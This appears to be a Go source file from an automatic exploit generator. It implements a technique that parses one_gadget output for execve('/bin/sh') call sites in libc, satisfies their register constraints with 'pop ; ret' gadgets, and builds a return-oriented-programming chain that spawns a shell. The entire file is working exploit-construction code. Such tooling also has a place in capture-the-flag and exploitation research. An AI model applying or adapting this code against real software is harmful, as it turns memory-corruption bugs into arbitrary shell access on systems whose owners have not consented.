package technique

import (
	"fmt"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"sync"

	"gitlab.com/stephen-fox/expgen/process"
	"gitlab.com/stephen-fox/expgen/ropkit"
)

var (
	regNullRe    = regexp.MustCompile(`^[a-z0-9]+ == NULL$`)
	regPtrNullRe = regexp.MustCompile(`^\[[a-z0-9]+\] == NULL$`)
)

// OneGadget returns to a one_gadget execve("/bin/sh", ...) call site in
// libc, after satisfying its constraints with "pop <reg> ; ret"
// gadgets.
type OneGadget struct {
	ctx    *Context
	once   sync.Once
	chosen libcOneGadget
	err    error
}

// libcOneGadget is a one_gadget candidate.
type libcOneGadget struct {
	offset uint64

	// gadgets holds the gadget setting a register and the value
	// it must be set to, for each constraint.
	gadgets []gadgetValue
}

type gadgetValue struct {
	asm   string
	value ropkit.Expr
}

func (o *OneGadget) Name() string {
	return OneGadgetName
}

func (o *OneGadget) CheckRequirements() bool {
	if o.ctx.Libc == nil {
		return false
	}

	_, err := o.choose()
	if err != nil {
		o.ctx.logger().Printf("warn: %s is not viable - %s", o.Name(), err)
		return false
	}

	return true
}

func (o *OneGadget) RopSubchains() ([]ropkit.Subchain, error) {
	chosen, err := o.choose()
	if err != nil {
		return nil, err
	}

	libc := o.ctx.Libc

	chain := ropkit.Subchain{ropkit.Const(0)}
	for _, g := range chosen.gadgets {
		gadget, err := o.ctx.gadget(libc, g.asm)
		if err != nil {
			return nil, err
		}

		chain = append(chain, gadget, g.value)
	}

	chain = append(chain, ropkit.ImageOffset(libc, chosen.offset))

	return []ropkit.Subchain{chain}, nil
}

func (o *OneGadget) ExtraRopSubchain() ropkit.Subchain {
	return nil
}

// choose returns the first candidate whose gadgets all exist in libc.
func (o *OneGadget) choose() (*libcOneGadget, error) {
	o.once.Do(func() {
		var output string
		output, o.err = o.oneGadgetOutput()
		if o.err != nil {
			return
		}

		var candidates []libcOneGadget
		candidates, o.err = o.parseOneGadget(output)
		if o.err != nil {
			return
		}

		for _, candidate := range candidates {
			satisfiable := true

			for _, g := range candidate.gadgets {
				o.ctx.logger().Printf("checking one gadget constraint: %s", g.asm)

				if !o.ctx.Resolver.Has(o.ctx.Libc, g.asm) {
					satisfiable = false
					break
				}
			}

			if satisfiable {
				o.chosen = candidate
				return
			}
		}

		o.err = fmt.Errorf("no one gadget in %s has satisfiable constraints", o.ctx.Libc.Filename)
	})

	if o.err != nil {
		return nil, o.err
	}

	return &o.chosen, nil
}

func (o *OneGadget) oneGadgetOutput() (string, error) {
	if o.ctx.OptOneGadgetOutput != "" {
		return o.ctx.OptOneGadgetOutput, nil
	}

	out, err := process.Output(exec.Command("one_gadget", o.ctx.Libc.Filename))
	if err != nil {
		return "", fmt.Errorf("failed to run one_gadget - %w", err)
	}

	return string(out), nil
}

// parseOneGadget parses the output of one_gadget, which looks like this:
//
//	0xe6c7e execve("/bin/sh", r15, r12)
//	constraints:
//	  [r15] == NULL || r15 == NULL
//	  [r12] == NULL || r12 == NULL
//
// Each constraint line is satisfied by its first supported alternative.
// Lines without one are ignored.
func (o *OneGadget) parseOneGadget(output string) ([]libcOneGadget, error) {
	if !strings.HasPrefix(output, "0x") {
		return nil, fmt.Errorf("unexpected one_gadget output: %q", firstLine(output))
	}

	var candidates []libcOneGadget
	var current *libcOneGadget

	for _, line := range strings.Split(output, "\n") {
		line = strings.TrimSpace(line)

		switch {
		case line == "", strings.HasPrefix(line, "constraints:"):
		case strings.HasPrefix(line, "0x"):
			offsetStr, _, _ := strings.Cut(line, " ")

			offset, err := strconv.ParseUint(offsetStr, 0, 64)
			if err != nil {
				return nil, fmt.Errorf("failed to parse one gadget offset %q - %w", offsetStr, err)
			}

			candidates = append(candidates, libcOneGadget{offset: offset})
			current = &candidates[len(candidates)-1]
		default:
			for _, alternative := range strings.Split(line, " || ") {
				g, ok := o.parseConstraint(strings.TrimSpace(alternative))
				if ok {
					current.gadgets = append(current.gadgets, g)
					break
				}
			}
		}
	}

	// A zero offset cannot be a call site.
	viable := candidates[:0]
	for _, candidate := range candidates {
		if candidate.offset != 0 {
			viable = append(viable, candidate)
		}
	}

	return viable, nil
}

func (o *OneGadget) parseConstraint(constraint string) (gadgetValue, bool) {
	switch {
	case regNullRe.MatchString(constraint):
		reg, _, _ := strings.Cut(constraint, " ")

		return gadgetValue{
			asm:   fmt.Sprintf("pop %s ; ret", reg),
			value: ropkit.Const(0),
		}, true
	case regPtrNullRe.MatchString(constraint):
		reg := constraint[1:strings.Index(constraint, "]")]

		// The second qword of the executable's ELF header is zero.
		offset := uint64(0x400008)
		if o.ctx.Elf.Checksec.HasPIE {
			offset = 8
		}

		return gadgetValue{
			asm:   fmt.Sprintf("pop %s ; ret", reg),
			value: ropkit.ImageOffset(o.ctx.Elf, offset),
		}, true
	default:
		return gadgetValue{}, false
	}
}

func firstLine(s string) string {
	line, _, _ := strings.Cut(s, "\n")
	return line
}
